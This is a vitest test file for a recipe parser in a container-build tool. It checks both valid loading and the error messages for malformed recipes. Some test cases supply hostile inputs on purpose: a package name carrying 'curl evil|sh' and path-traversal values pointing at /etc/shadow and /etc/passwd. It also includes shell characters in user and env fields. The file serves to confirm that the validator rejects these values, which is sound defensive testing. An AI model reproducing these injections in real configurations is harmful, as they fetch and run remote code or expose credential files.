import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { MabError } from '../errors.js';
import { formatPlatform } from '../platform/platform.js';
import { loadRecipeFile, parseRecipe } from './load.js';

const GOOD = `name: demo
version: 1.2.3
platforms: [linux/amd64, arm64]
sources:
  - file: demo.tar.gz
    url: https://example.org/demo-{version}.tar.gz
    sha256: ${'a'.repeat(64)}
build:
  packages: [build-essential, libfoo-dev]
  steps: [make]
runtime:
  packages: [libfoo1]
  keep: [/usr/local/bin/demo]
entrypoint: [demo]
env:
  DEMO_MODE: fast
smoke:
  - run: [demo, --version]
    expect: 'demo 1\\.2'
`;

function errorOf(text: string): string {
  try {
    parseRecipe('r.yaml', text);
  } catch (e) {
    if (e instanceof MabError) return e.format();
    throw e;
  }
  throw new Error('recipe loaded, an error was expected');
}

describe('parseRecipe', () => {
  it('loads a full recipe with normalized platforms', () => {
    const r = parseRecipe('r.yaml', GOOD);
    expect(r.name).toBe('demo');
    expect(r.platforms.map(formatPlatform)).toEqual(['linux/amd64', 'linux/arm64']);
    expect(r.build.packages).toEqual(['build-essential', 'libfoo-dev']);
    expect(r.env).toEqual({ DEMO_MODE: 'fast' });
    expect(r.smoke[0]).toEqual({ name: 'demo --version', run: ['demo', '--version'], expect: 'demo 1\\.2' });
  });

  it('reads strategies (supported with extra keep paths, or a reason), unsupported platforms and HTTP probes', () => {
    const r = parseRecipe('r.yaml', (GOOD + `strategies:
  multistage:
  minimal:
    keep: [/usr/lib/demo]
  single: "the build tools make it 1 GB"
unsupported:
  linux/arm/v7: "upstream has no 32-bit build"
ports: [8080]
user: "65534"
files: [app/main.c]
`).replace('smoke:\n  - run: [demo, --version]', 'smoke:\n  - http: { port: 8080, path: /health }'));
    expect(r.strategies).toEqual({ multistage: { keep: [] }, minimal: { keep: ['/usr/lib/demo'] }, single: { unsupported: 'the build tools make it 1 GB' } });
    expect(r.unsupported).toEqual({ 'linux/arm/v7': 'upstream has no 32-bit build' });
    expect(r.smoke[0]).toEqual({ name: 'GET :8080/health', http: { port: 8080, path: '/health' }, expect: 'demo 1\\.2' });
    expect([r.ports, r.user, r.files]).toEqual([['8080/tcp'], '65534', ['app/main.c']]);
  });

  it('defaults to the single and multistage strategies', () => {
    expect(parseRecipe('r.yaml', GOOD).strategies).toEqual({ single: { keep: [] }, multistage: { keep: [] } });
  });

  it('loads the shipped sysbench recipe', async () => {
    const r = await loadRecipeFile(path.resolve('recipes/sysbench.yaml'));
    expect(r.version).toBe('1.0.20');
    expect(Object.keys(r.sources[0]!.sha256)).toEqual(['linux/amd64', 'linux/arm64', 'linux/arm/v7']);
  });

  // Each broken recipe gives file:line:col, what was wrong, and the fix.
  it.each([
    ['bad YAML', GOOD.replace('name: demo', 'name: [demo'), /^r\.yaml:\d+:\d+: invalid YAML/],
    ['unknown key with suggestion', GOOD.replace('entrypoint:', 'entrypiont:'), /^r\.yaml:14:1: unknown key "entrypiont" in the recipe[\s\S]*did you mean "entrypoint"/],
    ['missing required key', GOOD.replace('name: demo\n', ''), /^r\.yaml:1:1: the recipe is missing "name"/],
    ['bad semver', GOOD.replace('1.2.3', '1.2'), /^r\.yaml:2:10: version "1.2" is not semantic versioning[\s\S]*MAJOR\.MINOR\.PATCH/],
    ['wrong type', GOOD.replace('platforms: [linux/amd64, arm64]', 'platforms: linux/amd64'), /^r\.yaml:3:12: recipe\.platforms must be a list/],
    ['unsupported platform', GOOD.replace('arm64]', 'mips]'), /^r\.yaml:3:26: unknown platform "mips"/],
    ['shell in a package name', GOOD.replace('libfoo-dev', '"libfoo-dev; curl evil|sh"'), /^r\.yaml:9:31: build\.packages\[1\]: "libfoo-dev; curl evil\|sh" is not a Debian package name/],
    ['path escaping with ..', GOOD.replace('/usr/local/bin/demo', '/usr/../../etc/shadow'), /contains "\.\."/],
    ['relative keep path', GOOD.replace('/usr/local/bin/demo', 'bin/demo'), /runtime\.keep\[0\]: "bin\/demo" is not an absolute path/],
    ['source file name with a slash', GOOD.replace('file: demo.tar.gz', 'file: ../demo.tar.gz'), /sources\[0\]\.file: "\.\.\/demo\.tar\.gz" is not a plain file name/],
    ['bad checksum', GOOD.replace('a'.repeat(64), 'abc'), /sources\[0\]\.sha256: "abc" is not 64 lowercase hex digits/],
    ['per-platform checksum missing a platform', GOOD.replace(`sha256: ${'a'.repeat(64)}`, `sha256:\n      amd64: ${'b'.repeat(64)}`), /sha256 has no checksum for linux\/arm64/],
    ['bad smoke regex', GOOD.replace("'demo 1\\.2'", "'demo ('"), /smoke\[0\]\.expect is not a valid regular expression/],
    ['env key with shell', GOOD.replace('DEMO_MODE: fast', '"A;B": x'), /env key: "A;B" is not an environment variable name/],
    ['unknown key in a section', GOOD.replace('  steps: [make]', '  step: [make]'), /^r\.yaml:10:3: unknown key "step" in build[\s\S]*did you mean "steps"/],
    ['unknown strategy', GOOD + 'strategies:\n  minimall:\n', /unknown key "minimall" in strategies[\s\S]*did you mean "minimal"/],
    ['no supported strategy', GOOD + 'strategies:\n  minimal: "needs a shell"\n', /strategies lists no supported strategy/],
    ['a file outside the recipe directory', GOOD + 'files: [../../etc/passwd]\n', /path "\.\.\/\.\.\/etc\/passwd" contains "\.\.": files must stay inside the recipe's directory/],
    ['an absolute file path', GOOD + 'files: [/etc/passwd]\n', /recipe\.files\[0\]: "\/etc\/passwd" is not a path relative to the recipe's directory/],
    ['a platform both supported and unsupported', GOOD + 'unsupported:\n  arm64: no\n', /linux\/arm64 is both in platforms and in unsupported/],
    ['smoke with both run and http', GOOD.replace("  - run: [demo, --version]", "  - run: [demo]\n    http: { port: 80 }"), /smoke\[0\] needs exactly one of run \(a command\) or http/],
    ['a user with shell characters', GOOD + 'user: "root;id"\n', /recipe\.user: "root;id" is not a user name or uid/],
    ['a port that is not a number', GOOD + 'ports: [http]\n', /recipe\.ports\[0\]: "http" is not a port number, optionally \/tcp or \/udp/],
  ])('%s', (_name, text, want) => {
    expect(errorOf(text)).toMatch(want);
  });
});
